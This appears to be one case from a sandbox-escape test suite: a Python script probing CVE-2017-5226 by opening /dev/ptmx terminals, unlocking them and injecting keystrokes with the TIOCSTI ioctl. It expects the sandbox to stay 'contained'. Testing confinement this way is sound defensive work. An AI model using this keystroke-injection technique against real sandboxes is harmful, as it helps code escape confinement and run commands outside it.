# Attack: 82, terminals of its own
# Source: CVE-2017-5226 (bubblewrap: TIOCSTI) by another door, /dev/ptmx
# Tries: opens terminals from /dev/ptmx, unlocks them, makes one its controlling terminal and types into it.
# Meets: a terminal's other side stays locked, as the ioctl that unlocks it is unknown in the box, so there is no terminal to type into.
# Expect: contained
import fcntl
import os

TIOCSPTLCK, TIOCGPTPEER, TIOCSCTTY, TIOCSTI = 0x40045431, 0x5441, 0x540E, 0x5412
worked = []
masters = []
for _ in range(4):
    try:
        masters.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError:
        break
for master in masters:
    for name, code, value in (
        ("unlock", TIOCSPTLCK, bytes(4)),
        ("peer", TIOCGPTPEER, os.O_RDWR),
        ("control", TIOCSCTTY, 1),
        ("type", TIOCSTI, b"x"),
    ):
        try:
            fcntl.ioctl(master, code, value)
        except OSError:
            continue
        worked.append(name)
for entry in os.listdir("/dev/pts"):
    try:
        os.open(f"/dev/pts/{entry}", os.O_RDWR)
    except OSError:
        continue
    if entry != "ptmx":
        worked.append(entry)
print(f"ESCAPED: {worked}" if worked else "contained")
